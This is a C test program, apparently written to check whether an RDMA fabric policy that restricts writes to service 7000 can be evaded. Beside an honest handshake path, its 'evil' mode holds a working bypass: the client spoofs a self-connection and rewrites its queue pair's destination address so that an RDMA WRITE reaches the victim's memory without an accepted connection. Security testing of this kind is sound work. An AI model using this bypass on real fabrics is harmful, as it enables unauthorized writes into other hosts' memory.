/* Two programs of one fabric; a policy lets one of them write to the other only through service
 * 7000. They exchange their queue pairs through files, as programs do that connect without the
 * connection manager. The writer prints the status of its WRITE; the other one prints its memory
 * at the end. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "verbs_api.h"

struct rdma_event_channel *rdma_create_event_channel(void);
int rdma_create_id(struct rdma_event_channel *channel, struct rdma_cm_id **id, void *context, int space);
int rdma_bind_addr(struct rdma_cm_id *id, struct sockaddr *address);
int rdma_listen(struct rdma_cm_id *id, int backlog);
int rdma_resolve_addr(struct rdma_cm_id *id, struct sockaddr *from, struct sockaddr *to, int timeout_ms);
int rdma_resolve_route(struct rdma_cm_id *id, int timeout_ms);
int rdma_connect(struct rdma_cm_id *id, struct rdma_conn_param *param);
int rdma_accept(struct rdma_cm_id *id, struct rdma_conn_param *param);
int rdma_establish(struct rdma_cm_id *id);
int rdma_get_cm_event(struct rdma_event_channel *channel, struct rdma_cm_event **event);
int rdma_ack_cm_event(struct rdma_cm_event *event);
struct ibv_mr *ibv_reg_mr(struct ibv_pd *pd, void *address, size_t length, int access);

enum { PORT = 7000, TCP = 0x0106, EVENT_REQUEST = 4, EVENT_RESPONSE = 5 };
enum { INIT = 1, RTR, RTS, SQD };
enum { STATE = 1, AV = 128, RC = 2, RDMA_WRITE = 0, SIGNALED = 2, ACCESS = 7 };
enum { TO_INIT = STATE | 8 | 16 | 32, TO_RTR = STATE | AV | 256 | 1 << 12 | 1 << 15 | 1 << 17 | 1 << 20 };
enum { TO_RTS = STATE | 512 | 1024 | 2048 | 1 << 13 | 1 << 16 };

struct end {
  union ibv_gid gid;
  uint32_t qpn, key;
  uint64_t address;
};

static struct ibv_context *device;
static struct ibv_cq *cq;
static struct ibv_qp *qp;
static struct ibv_mr *region;
static struct rdma_event_channel *channel;
static char memory[64];
static struct end own, peer;

static void must(int holds, const char *what) {
  if (holds) return;
  printf("%s: errno %d\n", what, errno);
  exit(1);
}

static void publish(const char *name) {
  FILE *file = fopen("writing", "wb");
  must(file && fwrite(&own, sizeof own, 1, file) == 1 && fclose(file) == 0, "file");
  must(rename("writing", name) == 0, "rename");
}

static int published(const char *name, struct end *out) {
  FILE *file = fopen(name, "rb");
  if (!file) return 0;
  must(fread(out, sizeof *out, 1, file) == 1, name);
  return fclose(file) == 0;
}

static void await(const char *name, struct end *out) {
  for (int i = 0; !published(name, out); i++) {
    must(i < 30000, name);
    usleep(2000);
  }
}

static int modify(int state, int mask, union ibv_gid gid, uint32_t qpn) {
  struct ibv_qp_attr attr = {.qp_state = state, .port_num = 1, .path_mtu = 3, .dest_qp_num = qpn};
  attr.qp_access_flags = ACCESS;
  attr.timeout = 14, attr.retry_cnt = 1, attr.rnr_retry = 1, attr.min_rnr_timer = 1;
  attr.ah_attr = (struct ibv_ah_attr){.is_global = 1, .port_num = 1};
  attr.ah_attr.grh.dgid = gid, attr.ah_attr.grh.sgid_index = 1;
  return ibv_modify_qp(qp, &attr, mask);
}

static void point(union ibv_gid gid, uint32_t qpn) {
  must(modify(RTR, TO_RTR, gid, qpn) == 0, "RTR");
  must(modify(RTS, TO_RTS, gid, qpn) == 0, "RTS");
}

static void open_all(void) {
  int count;
  device = ibv_open_device(ibv_get_device_list(&count)[0]);
  struct ibv_pd *pd = ibv_alloc_pd(device);
  cq = ibv_create_cq(device, 16, NULL, NULL, 0);
  region = ibv_reg_mr(pd, memory, sizeof memory, ACCESS);
  struct ibv_qp_init_attr init = {.send_cq = cq, .recv_cq = cq, .cap = {4, 4, 1, 1, 0}, .qp_type = RC};
  qp = ibv_create_qp(pd, &init);
  must(region && qp && ibv_query_gid(device, 1, 1, &own.gid) == 0, "objects");
  own.qpn = qp->qp_num, own.key = region->rkey, own.address = (uintptr_t)memory;
  must(modify(INIT, TO_INIT, own.gid, 0) == 0, "INIT");
  must((channel = rdma_create_event_channel()) != NULL, "channel");
}

static struct rdma_cm_id *serve(void) {
  struct rdma_cm_id *id;
  struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons(PORT)};
  must(rdma_create_id(channel, &id, NULL, TCP) == 0, "id");
  must(rdma_bind_addr(id, (struct sockaddr *)&any) == 0 && rdma_listen(id, 4) == 0, "listen");
  return id;
}

/* Return the id of the next event of a type; others are skipped. NULL: it does not arrive. */
static struct rdma_cm_id *next(int type, int timeout_ms) {
  struct pollfd ready = {.fd = channel->fd, .events = POLLIN};
  while (poll(&ready, 1, timeout_ms) == 1) {
    struct rdma_cm_event *event;
    must(rdma_get_cm_event(channel, &event) == 0, "event");
    struct rdma_cm_id *id = event->event == type ? event->id : NULL;
    rdma_ack_cm_event(event);
    if (id) return id;
  }
  return NULL;
}

static struct rdma_cm_id *ask(union ibv_gid gid) {
  struct rdma_cm_id *id;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT)};
  memcpy(&to.sin_addr, gid.raw + 12, 4);
  must(rdma_create_id(channel, &id, NULL, TCP) == 0, "id");
  must(rdma_resolve_addr(id, NULL, (struct sockaddr *)&to, 1000) == 0 && next(0, 5000), "address");
  must(rdma_resolve_route(id, 1000) == 0 && next(2, 5000), "route");
  struct rdma_conn_param param = {.qp_num = own.qpn, .retry_count = 7};
  if (rdma_connect(id, &param) != 0) printf("connect: errno %d\n", errno);
  return id;
}

static int answer(struct rdma_cm_id *id, uint32_t qpn) {
  struct rdma_conn_param param = {.qp_num = qpn};
  return rdma_accept(id, &param);
}

static int victim(int accepts) {
  struct end done;
  serve();
  publish("victim");
  await("client", &peer);
  point(peer.gid, peer.qpn);
  publish("ready");
  while (!published("done", &done)) {
    struct rdma_cm_id *id = accepts ? next(EVENT_REQUEST, 2) : NULL;
    if (id) must(answer(id, own.qpn) == 0, "accept");
    usleep(2000);
  }
  printf("memory '%.8s'\n", memory);
  return 0;
}

/* A connection to itself through the service, whose reply has the victim's number; a request to
 * the victim that gets no reply; and then the victim's address in place of its own. */
static void deceive(void) {
  serve();
  ask(own.gid);
  struct rdma_cm_id *request = next(EVENT_REQUEST, 2000);
  if (request && answer(request, peer.qpn) != 0) printf("accept: errno %d\n", errno);
  next(EVENT_RESPONSE, 500);
  point(own.gid, peer.qpn);
  ask(peer.gid);
  usleep(100000);
}

static int client(const char *how) {
  struct end ready;
  await("victim", &peer);
  const int evil = strcmp(how, "evil") == 0;
  if (evil) deceive();
  publish("client");
  await("ready", &ready);
  if (strcmp(how, "honest") == 0) {
    struct rdma_cm_id *id = ask(peer.gid);
    must(next(EVENT_RESPONSE, 10000) == id, "response");
    point(peer.gid, peer.qpn);
    must(rdma_establish(id) == 0, "establish");
  } else if (evil) {
    must(modify(SQD, STATE, own.gid, 0) == 0, "SQD");
    must(modify(SQD, STATE | AV, peer.gid, 0) == 0, "another address");
    must(modify(RTS, STATE, own.gid, 0) == 0, "RTS again");
  } else {
    point(peer.gid, peer.qpn);
  }
  memcpy(memory, "WRITTEN!", 8);
  struct ibv_sge part = {.addr = (uintptr_t)memory, .length = 8, .lkey = region->lkey};
  struct ibv_send_wr request = {.sg_list = &part, .num_sge = 1, .send_flags = SIGNALED}, *bad;
  request.opcode = RDMA_WRITE, request.wr.rdma.remote_addr = peer.address, request.wr.rdma.rkey = peer.key;
  must(device->ops.post_send(qp, &request, &bad) == 0, "post");
  struct ibv_wc done;
  while (device->ops.poll_cq(cq, 1, &done) == 0) usleep(1000);
  printf("status %d\n", (int)done.status);
  publish("done");
  return 0;
}

int main(int argc, char **argv) {
  must(argc == 2, "how");
  open_all();
  if (strcmp(argv[1], "accepts") == 0 || strcmp(argv[1], "ignores") == 0)
    return victim(argv[1][0] == 'a');
  return client(argv[1]);
}
